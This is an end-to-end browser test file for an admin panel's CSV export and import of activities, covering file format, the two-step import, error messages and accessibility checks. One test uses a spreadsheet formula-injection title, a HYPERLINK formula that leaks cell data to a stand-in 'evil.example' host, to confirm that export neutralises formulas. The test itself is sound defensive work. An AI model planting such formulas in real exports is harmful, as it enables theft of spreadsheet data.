// Export CSV and Import CSV on the Activities tab (admin §2, §4, §5, §8) in a real browser, with JavaScript on (dialogs
// over the list) and off (plain pages and form posts): the download, both import steps reached by clicking, Back and
// Cancel, the result with its skipped rows, and axe on the import pages.
import AxeBuilder from "@axe-core/playwright";
import Papa from "papaparse";
import type { BrowserContext, Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { CSV_COLUMNS, CSV_MESSAGES, REQUIRED_CSV_COLUMNS } from "~/domain/activities/activity-csv";
import { signedInAdmin } from "../helpers/admin";
import { setUpSite, toast } from "../helpers/e2e";

const site = setUpSite();
let contexts: Record<"js" | "nojs", BrowserContext>;
let cookie = "";

const LONG = 120_000;

beforeAll(async () => {
  ({ contexts, cookie } = await signedInAdmin(site));
});

async function openList(mode: "js" | "nojs"): Promise<Page> {
  const page = await contexts[mode].newPage();
  page.setDefaultTimeout(20_000);
  await page.goto(`${site.url}/admin/activities`);
  if (mode === "js") {
    await page.getByLabel("Select all", { exact: true }).waitFor();
  }
  return page;
}

/** axe runs in the page's JavaScript, so only in the JavaScript-on pass (the dialogs' markup is the same without). */
async function axe(page: Page, label: string, mode: "js" | "nojs") {
  if (mode === "nojs") return;
  const results = await new AxeBuilder({ page }).withTags(["wcag2a", "wcag2aa"]).analyze();
  const serious = results.violations.filter((v) => v.impact === "serious" || v.impact === "critical");
  expect(serious.map((v) => `${label}: ${v.id} ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`)).toEqual([]);
}

async function chooseFile(page: Page, text: string) {
  const step1 = page.getByRole("dialog", { name: "Import CSV" });
  await step1.waitFor();
  await step1
    .getByLabel("CSV file")
    .setInputFiles({ name: "activities.csv", mimeType: "text/csv", buffer: Buffer.from(text) });
  await step1.getByRole("button", { name: "Preview" }).click();
  const step2 = page.getByRole("dialog", { name: "Import CSV: Choose Columns" });
  await step2.waitFor();
  return step2;
}

describe.each(["js", "nojs"] as const)("CSV with JavaScript %s", (mode) => {
  it("exports every activity as a dated UTF-8 CSV with a BOM", { timeout: LONG }, async () => {
    const page = await openList(mode);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "Export CSV" }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^activities-\d{4}-\d{2}-\d{2}\.csv$/);
    const chunks: Buffer[] = [];
    for await (const chunk of (await download.createReadStream())!) chunks.push(chunk as Buffer);
    const bytes = Buffer.concat(chunks);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString("utf8").split("\r\n")[0]).toBe(CSV_COLUMNS.join(","));
    await page.close();
  });

  it("imports a file in two steps, with Back and Cancel, and lists the skipped rows", { timeout: LONG }, async () => {
    // An activity to update, made through the API.
    const created = await site.api("/api/activities", {
      method: "POST",
      cookie,
      body: {
        title: `CSV target ${mode}`,
        category: "Museums",
        excerpt: "Before the import.",
        image: "https://images.example/csv.jpg",
        latitude: "36.16",
        longitude: "-86.78",
        cityId: "nashville",
        cost: "High",
      },
    });
    expect(created.status).toBe(201);
    const target = (await created.json()) as { id: number };
    const text =
      `id,${REQUIRED_CSV_COLUMNS.join(",")},cost\r\n` +
      `${target.id},CSV target ${mode},"After the import, with ""quotes"".",36.16,-86.78,Museums,nashville,Free\r\n` +
      `,CSV new ${mode} café 🎉,Fresh from a file,36.15,-86.77,Parks,nashville,\r\n` +
      `,CSV lost ${mode},Nowhere,36.15,-86.77,Parks,atlantis,\r\n`;

    const page = await openList(mode);
    await page.getByRole("link", { name: "Import CSV" }).click();
    await page.getByRole("dialog", { name: "Import CSV" }).waitFor();
    await axe(page, "step 1", mode);
    let step2 = await chooseFile(page, text);
    await expect(step2.getByText("to create").textContent()).resolves.toContain("1");
    await expect(step2.getByText("to update").textContent()).resolves.toContain("1");
    await expect(step2.getByText("to skip").textContent()).resolves.toContain("1");
    // The required columns are ticked and cannot be unticked.
    for (const column of REQUIRED_CSV_COLUMNS) {
      const box = step2.getByRole("checkbox", { name: new RegExp(`^${column}`) });
      expect(await box.isChecked()).toBe(true);
      expect(await box.isDisabled()).toBe(true);
    }
    await axe(page, "step 2", mode);

    // Back to the file choice.
    await step2.getByRole("link", { name: "Back" }).click();
    step2 = await chooseFile(page, text);
    // Cancel drops it: back on the list, nothing imported.
    await step2.getByRole("button", { name: "Cancel" }).click();
    await toast(page, "Import cancelled");
    expect((await site.api(`/api/activities/${target.id}`).then((r) => r.json())).cost).toBe("High");

    await page.getByRole("link", { name: "Import CSV" }).click();
    step2 = await chooseFile(page, text);
    // cost is imported (ticked by default); untick nothing.
    await step2.getByRole("button", { name: "Import" }).click();
    const result = page.getByRole("dialog", { name: "Import CSV: Result" });
    await result.waitFor();
    await result.getByText("Created: 1. Updated: 1. Skipped: 1.").waitFor();
    await result.getByRole("cell", { name: CSV_MESSAGES.unknownCity("atlantis") }).waitFor();
    expect(await result.getByRole("cell", { name: "4", exact: true }).count()).toBe(1);
    await axe(page, "result", mode);

    const updated = await (await site.api(`/api/activities/${target.id}`)).json();
    expect(updated).toMatchObject({ excerpt: 'After the import, with "quotes".', cost: "Free" });
    const search = await (await site.api(`/api/search?q=${encodeURIComponent(`CSV new ${mode}`)}`)).json();
    expect(JSON.stringify(search)).toContain(`CSV new ${mode} café 🎉`);

    await result.getByRole("link", { name: "Back to activities" }).click();
    await page.getByRole("link", { name: "Export CSV" }).waitFor();
    await page.close();
  });

  it("answers a bad file with 'CSV Preview Error' and the spec's message", { timeout: LONG }, async () => {
    const page = await openList(mode);
    await page.getByRole("link", { name: "Import CSV" }).click();
    const step1 = page.getByRole("dialog", { name: "Import CSV" });
    await step1.waitFor();
    await step1
      .getByLabel("CSV file")
      .setInputFiles({ name: "bad.csv", mimeType: "text/csv", buffer: Buffer.from("title,excerpt\nA,B\n") });
    await step1.getByRole("button", { name: "Preview" }).click();
    const alert = page.getByRole("dialog", { name: "Import CSV" }).getByRole("alert");
    await alert.getByText("CSV Preview Error").waitFor();
    await alert.getByText("Missing required columns for import: latitude, longitude, category, cityId").waitFor();
    if (mode === "js") await toast(page, "Missing required columns for import", "destructive");
    await page.close();
  });
});

describe("rows the spec keeps", () => {
  it(
    "imports a row whose phone is '123'; Phone Validation then lists it as invalid_format",
    { timeout: LONG },
    async () => {
      const title = "CSV odd phone";
      const text =
        `${REQUIRED_CSV_COLUMNS.join(",")},phoneNumber,website\r\n` +
        `${title},A phone that does not parse,36.15,-86.77,Parks,nashville,123,not a website\r\n`;
      const page = await openList("js");
      await page.getByRole("link", { name: "Import CSV" }).click();
      const step2 = await chooseFile(page, text);
      await expect(step2.getByText("to create").textContent()).resolves.toContain("1");
      await expect(step2.getByText("to skip").textContent()).resolves.toContain("0");
      await step2.getByRole("button", { name: "Import" }).click();
      const result = page.getByRole("dialog", { name: "Import CSV: Result" });
      await result.getByText("Created: 1. Updated: 0. Skipped: 0.").waitFor();

      const search = await (await site.api(`/api/search?q=${encodeURIComponent(title)}`)).json();
      const id = (search.activities as { id: number; title: string }[]).find((a) => a.title === title)!.id;
      const stored = await (await site.api(`/api/activities/${id}`)).json();
      expect(stored).toMatchObject({ phoneNumber: "123", website: "not a website" });

      // Phone Validation's call, for this activity.
      const validated = await site.api("/api/activities/validate-batch", {
        method: "POST",
        cookie,
        body: { activityIds: [id], validationType: "phone" },
      });
      expect(validated.status).toBe(200);
      expect((await validated.json()).results[0]).toMatchObject({ phoneStatus: "invalid_format", needsReview: true });

      // The Data Quality tab's review list shows it under the phone issue.
      await page.goto(`${site.url}/admin/data-quality?issue=phone&q=${encodeURIComponent(title)}`);
      const row = page.getByRole("list", { name: "Activities needing review" }).getByRole("listitem", { name: title });
      await row.getByText("Phone: invalid_format").waitFor();
      await page.close();
    },
  );
});

describe("formulas", () => {
  it(
    "are exported with a leading ', which the import removes again: export then import changes nothing",
    { timeout: LONG },
    async () => {
      const titles = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', "-5 things", "@Round the corner"];
      const ids: number[] = [];
      for (const title of titles) {
        const created = await site.api("/api/activities", {
          method: "POST",
          cookie,
          body: {
            title,
            category: "Parks",
            excerpt: `+${title}`,
            image: "https://images.example/formula.jpg",
            latitude: "36.16",
            longitude: "-86.78",
            cityId: "nashville",
            phoneNumber: "+1 615-889-3060",
          },
        });
        expect(created.status).toBe(201);
        ids.push(((await created.json()) as { id: number }).id);
      }
      // What the activity is (a row's version or timestamps may move with a write that changes nothing else).
      const read = async (id: number) => {
        const {
          version: _v,
          updatedAt: _u,
          ...activity
        } = (await (await site.api(`/api/activities/${id}`)).json()) as Record<string, unknown>;
        return activity;
      };
      const before = await Promise.all(ids.map(read));

      const page = await openList("nojs");
      const [download] = await Promise.all([
        page.waitForEvent("download"),
        page.getByRole("link", { name: "Export CSV" }).click(),
      ]);
      const chunks: Buffer[] = [];
      for await (const chunk of (await download.createReadStream())!) chunks.push(chunk as Buffer);
      const [header, ...rows] = Papa.parse<string[]>(Buffer.concat(chunks).toString("utf8").slice(1), {
        skipEmptyLines: true,
      }).data;
      const mine = rows.filter((r) => ids.includes(Number(r[0])));
      expect(mine.map((r) => r[header!.indexOf("title")])).toEqual(titles.map((t) => `'${t}`));
      expect(mine.map((r) => r[header!.indexOf("longitude")])).toEqual(titles.map(() => "-86.78"));
      expect(mine.map((r) => r[header!.indexOf("phoneNumber")])).toEqual(titles.map(() => "'+1 615-889-3060"));

      // Those rows, as exported, imported again (every column).
      await page.getByRole("link", { name: "Import CSV" }).click();
      const step2 = await chooseFile(page, Papa.unparse([header!, ...mine], { newline: "\r\n" }));
      await expect(step2.getByText("to update").textContent()).resolves.toContain(String(titles.length));
      await step2.getByRole("button", { name: "Import" }).click();
      const result = page.getByRole("dialog", { name: "Import CSV: Result" });
      await result.getByText(`Created: 0. Updated: ${titles.length}. Skipped: 0.`).waitFor();
      const after = await Promise.all(ids.map(read));
      expect(after).toEqual(before);
      await page.close();
    },
  );
});
